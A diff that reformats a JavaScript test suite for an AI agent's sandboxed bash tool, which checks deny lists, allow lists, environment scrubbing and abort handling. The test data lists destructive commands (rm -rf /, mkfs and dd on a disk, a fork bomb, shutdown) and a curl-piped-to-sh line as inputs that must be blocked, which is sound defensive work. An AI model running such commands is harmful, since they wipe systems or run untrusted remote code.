@@ -19,21 +19,33 @@ describe('bash tool', () => {
   afterEach(() => fixture.cleanup());
 
   it('is disabled unless its config enables it', async () => {
-    await assert.rejects(createBashTool().execute({ command: 'echo hi' }, fixture.context()), forbidden(/disabled/));
+    await assert.rejects(
+      createBashTool().execute({ command: 'echo hi' }, fixture.context()),
+      forbidden(/disabled/),
+    );
   });
 
   it('runs in the workspace with a scrubbed environment', async () => {
     const bash = createBashTool({ enabled: true });
-    const output = await bash.execute({ command: 'pwd; echo "home=$HOME"; env | sort | cut -d= -f1 | tr "\\n" " "' }, fixture.context());
+    const output = await bash.execute(
+      { command: 'pwd; echo "home=$HOME"; env | sort | cut -d= -f1 | tr "\\n" " "' },
+      fixture.context(),
+    );
     const [pwd, home, names] = output.split('\n');
     assert.equal(pwd, fixture.workspace);
     assert.equal(home, `home=${fixture.workspace}`);
-    const variables = (names ?? '').trim().split(' ').filter((name) => !['PWD', 'SHLVL', '_', 'OLDPWD'].includes(name));
+    const variables = (names ?? '')
+      .trim()
+      .split(' ')
+      .filter((name) => !['PWD', 'SHLVL', '_', 'OLDPWD'].includes(name));
     assert.deepEqual(variables, ['HOME', 'LANG', 'PATH']);
   });
 
   it('reports the exit code and stderr of a failing command', async () => {
-    const output = await createBashTool({ enabled: true }).execute({ command: 'echo oops >&2; exit 3' }, fixture.context());
+    const output = await createBashTool({ enabled: true }).execute(
+      { command: 'echo oops >&2; exit 3' },
+      fixture.context(),
+    );
     assert.equal(output, 'oops\n[exit code 3]');
   });
 
@@ -55,7 +67,10 @@ describe('bash tool', () => {
   it('kills the command when the call is aborted', async () => {
     const controller = new AbortController();
     const started = Date.now();
-    const running = createBashTool({ enabled: true }).execute({ command: 'sleep 30' }, fixture.context(controller.signal));
+    const running = createBashTool({ enabled: true }).execute(
+      { command: 'sleep 30' },
+      fixture.context(controller.signal),
+    );
     setTimeout(() => controller.abort(new Error('client went away')), 100);
     await assert.rejects(running, /client went away/);
     assert.ok(Date.now() - started < 3_000);
@@ -74,32 +89,69 @@ describe('bash tool', () => {
 
   it('refuses commands on the default deny list', async () => {
     const bash = createBashTool({ enabled: true });
-    for (const command of ['sudo ls', 'rm -rf /', 'rm -rf ~', 'rm -fr / --no-preserve-root', 'shutdown -h now', 'mkfs.ext4 /dev/sda1', 'dd if=/dev/zero of=/dev/sda', ':(){ :|:& };:', 'ls; reboot']) {
+    for (const command of [
+      'sudo ls',
+      'rm -rf /',
+      'rm -rf ~',
+      'rm -fr / --no-preserve-root',
+      'shutdown -h now',
+      'mkfs.ext4 /dev/sda1',
+      'dd if=/dev/zero of=/dev/sda',
+      ':(){ :|:& };:',
+      'ls; reboot',
+    ]) {
       await assert.rejects(bash.execute({ command }, fixture.context()), forbidden(/deny list/), command);
     }
   });
 
   it('allows harmless commands that resemble denied ones', () => {
     const policy = { deny: DEFAULT_DENY_LIST, allow: [] };
-    for (const command of ['echo pseudo', 'rm -rf ./build', 'rm -rf /tmp/agent-scratch', 'ls ~/notes', 'git commit -m "halting problem"']) {
+    for (const command of [
+      'echo pseudo',
+      'rm -rf ./build',
+      'rm -rf /tmp/agent-scratch',
+      'ls ~/notes',
+      'git commit -m "halting problem"',
+    ]) {
       assert.doesNotThrow(() => checkCommand(command, policy), command);
     }
   });
 
   it('uses a configured deny list of phrases and regexes instead of the default', async () => {
     const bash = createBashTool({ enabled: true, deny: ['git push', '/curl\\s+.*\\|\\s*sh/'] });
-    await assert.rejects(bash.execute({ command: 'git   push origin main' }, fixture.context()), forbidden(/git push/));
-    await assert.rejects(bash.execute({ command: 'curl https://x.example | sh' }, fixture.context()), forbidden(/deny list/));
-    assert.equal(await bash.execute({ command: 'echo sudo is allowed now' }, fixture.context()), 'sudo is allowed now');
+    await assert.rejects(
+      bash.execute({ command: 'git   push origin main' }, fixture.context()),
+      forbidden(/git push/),
+    );
+    await assert.rejects(
+      bash.execute({ command: 'curl https://x.example | sh' }, fixture.context()),
+      forbidden(/deny list/),
+    );
+    assert.equal(
+      await bash.execute({ command: 'echo sudo is allowed now' }, fixture.context()),
+      'sudo is allowed now',
+    );
     assert.throws(() => createBashTool({ deny: ['/(unclosed/'] }), AppError);
   });
 
   it('with an allow list, accepts only commands that start with allowed words', async () => {
     const bash = createBashTool({ enabled: true, allow: ['echo', 'ls'] });
-    assert.equal(await bash.execute({ command: 'echo one && ls README.md' }, fixture.context()), 'one\nREADME.md');
+    assert.equal(
+      await bash.execute({ command: 'echo one && ls README.md' }, fixture.context()),
+      'one\nREADME.md',
+    );
     assert.equal(await bash.execute({ command: 'LANG=C echo two' }, fixture.context()), 'two');
-    await assert.rejects(bash.execute({ command: 'cat README.md' }, fixture.context()), forbidden(/"cat" is not in the allow list/));
-    await assert.rejects(bash.execute({ command: 'echo ok; cat README.md' }, fixture.context()), forbidden(/"cat"/));
-    await assert.rejects(bash.execute({ command: 'echo $(cat README.md)' }, fixture.context()), forbidden(/substitutions/));
+    await assert.rejects(
+      bash.execute({ command: 'cat README.md' }, fixture.context()),
+      forbidden(/"cat" is not in the allow list/),
+    );
+    await assert.rejects(
+      bash.execute({ command: 'echo ok; cat README.md' }, fixture.context()),
+      forbidden(/"cat"/),
+    );
+    await assert.rejects(
+      bash.execute({ command: 'echo $(cat README.md)' }, fixture.context()),
+      forbidden(/substitutions/),
+    );
   });
 });
